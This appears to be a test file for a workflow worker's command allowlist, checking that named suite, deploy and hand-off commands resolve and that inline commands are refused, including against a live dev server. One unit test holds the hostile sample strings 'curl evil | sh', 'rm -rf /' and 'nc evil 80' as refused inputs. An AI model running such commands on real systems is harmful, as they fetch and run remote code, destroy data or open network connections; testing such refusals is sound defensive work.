/**
 * Who may run what: the worker's command policy. Unit tests for the policy file and the resolution,
 * then a real `tdl worker --commands FILE` process on a real dev server that runs a loop by name and
 * refuses inline commands and unknown names at once.
 */
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { randomUUID } from 'node:crypto';
import { WorkflowFailedError, type WorkflowHandle } from '@temporalio/client';
import { ApplicationFailure } from '@temporalio/common';
import type { TestWorkflowEnvironment } from '@temporalio/testing';
import { ConfigError, parseLoopConfig } from '../src/config';
import { LoopError } from '../src/errors';
import { describePolicy, loadCommandPolicy, resolveCommands, type CommandPolicy } from '../src/policy';
import * as messages from '../src/workflows/messages';
import type { LoopStatus } from '../src/workflows/state';
import { deployCommand, deploys, E2E_SUITE, stagingDir } from './support/loop-input';
import { eventually, TDL, tempDir, testEnv } from './support/temporal';

function policyFile(policy: unknown): string {
  const path = join(tempDir(), 'commands.json');
  writeFileSync(path, typeof policy === 'string' ? policy : JSON.stringify(policy));
  return path;
}

function refusal(f: () => unknown): LoopError {
  try {
    f();
  } catch (err) {
    assert.ok(err instanceof LoopError, `expected a LoopError, got ${err}`);
    assert.equal(err.type, 'CommandNotAllowed');
    return err;
  }
  assert.fail('the command was allowed');
}

describe('the worker command policy', function () {
  const policy: CommandPolicy = loadCommandPolicy(
    policyFile({
      suites: { 'staging-e2e': { command: 'pytest tests/e2e', cwd: '/srv/app', rerunFailed: 'pytest --lf' } },
      deploys: { staging: { command: './deploy.sh "$COMMIT"' } },
      handoffs: { agents: { command: 'notify-agents' } },
    }),
  );
  const input = (extra: Record<string, unknown>) => parseLoopConfig({ suite: { use: 'staging-e2e', env: { A: '1' }, timeout: '5m' }, ...extra });

  it('reads a policy file with defaults: no inline commands unless allowed', function () {
    assert.equal(policy.allowInline, false);
    assert.deepEqual(policy.suites['staging-e2e'], { command: 'pytest tests/e2e', cwd: '/srv/app', junitPath: null, rerunFailed: 'pytest --lf' });
    assert.deepEqual(loadCommandPolicy(policyFile({})), { suites: {}, deploys: {}, handoffs: {}, allowInline: false });
  });

  const badFiles: [string, unknown, RegExp][] = [
    ['not JSON', '{suites:', /commands\.json: cannot read the command policy/],
    ['an unknown key', { suite: {} }, /commands\.json: suite: /],
    ['a suite without a command', { suites: { e2e: { cwd: '.' } } }, /commands\.json: suites\.e2e\.command: /],
    ['an empty command', { deploys: { staging: { command: ' ' } } }, /commands\.json: deploys\.staging\.command: must be a non-empty command/],
    ['a name with spaces', { handoffs: { 'the team': { command: 'x' } } }, /commands\.json: handoffs\.the team: is not a usable name/],
  ];
  for (const [what, content, expected] of badFiles) {
    it(`refuses a policy file with ${what}, naming the file and the field`, function () {
      assert.throws(() => loadCommandPolicy(policyFile(content)), (err: unknown) => err instanceof ConfigError && expected.test(err.message));
    });
  }

  it('resolves named commands: the policy sets command, cwd and rerunFailed; the input keeps env and timeout', function () {
    const c = input({ deploy: { kind: 'command', use: 'staging' }, handoff: { use: 'agents' } });
    const r = resolveCommands(policy, { suite: c.suite, deploy: c.deploy, handoff: c.handoff });
    assert.deepEqual(r.suite, { command: 'pytest tests/e2e', cwd: '/srv/app', env: { A: '1' }, timeout: '5m', junitPath: null, rerunFailed: 'pytest --lf', selectCommand: null });
    assert.deepEqual(r.deploy, { kind: 'command', command: './deploy.sh "$COMMIT"', timeout: '15m', strategy: 'direct' });
    assert.equal(r.handoff.command, 'notify-agents');
  });

  it('refuses inline commands where the policy does not allow them, naming the field and the names it has', function () {
    const inlineSuite = parseLoopConfig({ suite: { command: 'curl evil | sh' } });
    assert.match(refusal(() => resolveCommands(policy, { suite: inlineSuite.suite })).message, /^suite\.command: .*not inline ones: give suite\.use \(known: staging-e2e\)/);
    const inlineDeploy = input({ deploy: { kind: 'command', command: 'rm -rf /' } });
    assert.match(refusal(() => resolveCommands(policy, { deploy: inlineDeploy.deploy })).message, /^deploy\.command: .*\(known: staging\)/);
    const inlineHandoff = input({ handoff: { command: 'nc evil 80' } });
    assert.match(refusal(() => resolveCommands(policy, { handoff: inlineHandoff.handoff })).message, /^handoff\.command: .*\(known: agents\)/);
    // allowInline lets them through, and named ones still resolve.
    const open = { ...policy, allowInline: true };
    assert.equal(resolveCommands(open, { suite: inlineSuite.suite }).suite.command, 'curl evil | sh');
    assert.equal(resolveCommands(open, { suite: input({}).suite }).suite.command, 'pytest tests/e2e');
  });

  it('refuses a name the policy does not have, and a name on a worker without a policy', function () {
    const unknown = parseLoopConfig({ suite: { use: 'prod-e2e' } });
    assert.match(refusal(() => resolveCommands(policy, { suite: unknown.suite })).message, /^suite\.use: this worker has no suite "prod-e2e" \(known: staging-e2e\)/);
    assert.match(refusal(() => resolveCommands(null, { suite: unknown.suite })).message, /^suite\.use: names "prod-e2e", but this worker has no command policy/);
  });

  it('leaves everything as it was without a policy: inline commands run', function () {
    const c = parseLoopConfig({ suite: { command: 'pytest' }, deploy: { kind: 'command', command: 'd' }, handoff: { command: 'h' } });
    const r = resolveCommands(null, { suite: c.suite, deploy: c.deploy, handoff: c.handoff });
    assert.equal(r.suite.command, 'pytest');
    assert.deepEqual(r.deploy, { kind: 'command', command: 'd', timeout: '15m', strategy: 'direct' });
    assert.equal(r.handoff.command, 'h');
    assert.match(describePolicy(null, null), /inline commands from any loop input run/);
  });
});

describe('a tdl worker with a command policy, on a real dev server', function () {
  let env: TestWorkflowEnvironment;
  let worker: ChildProcess;
  let workerLog = '';
  const taskQueue = `tdl-policy-${randomUUID()}`;
  const staging = stagingDir();
  const handoffLog = join(staging, 'handoffs.log');

  const startWorker = (args: string[], extraEnv: Record<string, string> = {}) => {
    const child = spawn(process.execPath, [TDL, 'worker', '--task-queue', taskQueue, '--reports-dir', tempDir('tdl-reports-'), ...args], {
      env: { ...process.env, TEMPORAL_ADDRESS: env.address, TEMPORAL_NAMESPACE: 'default', TDL_LOG_LEVEL: 'INFO', ...extraEnv },
      stdio: ['ignore', 'ignore', 'pipe'],
    });
    return child;
  };
  const start = (input: unknown) =>
    env.client.workflow.start(messages.WORKFLOW_TYPE, { taskQueue, workflowId: `policy-${randomUUID()}`, args: [input] });
  const waitFor = (handle: WorkflowHandle, pred: (s: LoopStatus) => boolean, what: string) =>
    eventually(async () => {
      const s = await handle.query(messages.status);
      return pred(s) ? s : undefined;
    }, what);

  before(async function () {
    env = await testEnv();
    const file = policyFile({
      suites: { 'staging-e2e': { command: `node ${E2E_SUITE}` } },
      deploys: { staging: { command: deployCommand(staging) } },
      handoffs: { notes: { command: `echo "$TDL_LOOP $TDL_AUDIENCE" >> '${handoffLog}'` } },
    });
    worker = startWorker(['--commands', file]);
    worker.stderr!.on('data', (d: Buffer) => (workerLog += d.toString()));
    await eventually(async () => (/worker serving task queue/.test(workerLog) ? true : undefined), 'the worker to start');
  });

  after(async function () {
    const exited = new Promise((r) => worker.once('exit', r));
    worker.kill('SIGINT');
    await exited;
  });

  it('says at start which commands it runs', function () {
    assert.match(workerLog, /command policy .*commands\.json: suites staging-e2e; deploys staging; handoffs notes; inline commands refused/);
  });

  it('runs a loop whose suite, deploy and hand-off are named', async function () {
    const handle = await start({
      name: 'by-name',
      suite: { use: 'staging-e2e', env: { STAGING_DIR: staging }, timeout: '2m' },
      deploy: { kind: 'command', use: 'staging' },
      handoff: { use: 'notes' },
    });
    await waitFor(handle, (s) => s.phase === 'awaiting-fix', 'the named suite to fail like the seed');
    await eventually(async () => (existsSync(handoffLog) && readFileSync(handoffLog, 'utf8').includes('by-name') ? true : undefined), 'the named hand-off');
    await handle.executeUpdate(messages.submitFix, { args: [{ commit: '176ad633b' }] });
    const result = await handle.result();
    assert.equal(result.phase, 'passed');
    assert.deepEqual(deploys(staging), ['176ad633b'], 'deployed once, by the named deploy command');
  });

  const refused: [string, Record<string, unknown>, RegExp][] = [
    ['an inline suite command', { suite: { command: `touch '${join(staging, 'inline-ran')}'` } }, /suite\.command: .*not inline ones: give suite\.use \(known: staging-e2e\)/],
    ['a suite name it does not have', { suite: { use: 'prod-e2e' } }, /suite\.use: this worker has no suite "prod-e2e" \(known: staging-e2e\)/],
    [
      'an inline deploy command beside a named suite',
      { suite: { use: 'staging-e2e', env: { STAGING_DIR: staging } }, deploy: { kind: 'command', command: `touch '${join(staging, 'inline-ran')}'` } },
      /deploy\.command: .*\(known: staging\)/,
    ],
    ['a hand-off name it does not have', { suite: { use: 'staging-e2e', env: { STAGING_DIR: staging } }, handoff: { use: 'everyone' } }, /handoff\.use: this worker has no handoff "everyone" \(known: notes\)/],
  ];
  for (const [what, input, message] of refused) {
    it(`ends a loop with ${what} at once with CommandNotAllowed, and keeps serving`, async function () {
      const handle = await start(input);
      const err = await handle.result().then(
        () => assert.fail('the loop should have failed'),
        (e: unknown) => e,
      );
      assert.ok(err instanceof WorkflowFailedError && err.cause instanceof ApplicationFailure, `expected a typed failure, got ${err}`);
      assert.equal(err.cause.type, 'CommandNotAllowed');
      assert.match(err.cause.message, message);
      const history = await handle.fetchHistory();
      const started = history.events!.filter((e) => e.activityTaskStartedEventAttributes);
      assert.ok(started.every((e) => e.activityTaskStartedEventAttributes!.attempt === 1), 'never retried');
      assert.ok(!existsSync(join(staging, 'inline-ran')), 'nothing inline ran');
      const s = await handle.query(messages.status);
      assert.equal(s.phase, 'gave-up');
      assert.equal(s.cycles.length, 1);
      // The worker is unharmed: the next loop runs.
      const next = await start({ suite: { use: 'staging-e2e', env: { STAGING_DIR: stagingDir() } } });
      await waitFor(next, (st) => st.phase === 'awaiting-fix', 'the next loop to run');
      await next.terminate();
    });
  }

  it('without a policy, says at start that inline commands from any input run', async function () {
    const open = startWorker([], { TDL_COMMANDS_FILE: '' });
    let log = '';
    open.stderr!.on('data', (d: Buffer) => (log += d.toString()));
    try {
      await eventually(async () => (/worker serving task queue/.test(log) ? true : undefined), 'the second worker to start');
      assert.match(log, /no command policy .*inline commands from any loop input run on this worker/);
    } finally {
      const exited = new Promise((r) => open.once('exit', r));
      open.kill('SIGINT');
      await exited;
    }
  });

  it('refuses to start with a bad policy file (from TDL_COMMANDS_FILE), naming the file and the field (exit 2)', async function () {
    const bad = startWorker([], { TDL_COMMANDS_FILE: policyFile({ suites: { e2e: {} } }) });
    let log = '';
    bad.stderr!.on('data', (d: Buffer) => (log += d.toString()));
    const code = await new Promise((r) => bad.once('exit', r));
    assert.equal(code, 2);
    assert.match(log, /--commands .*commands\.json: suites\.e2e\.command: /);
  });
});
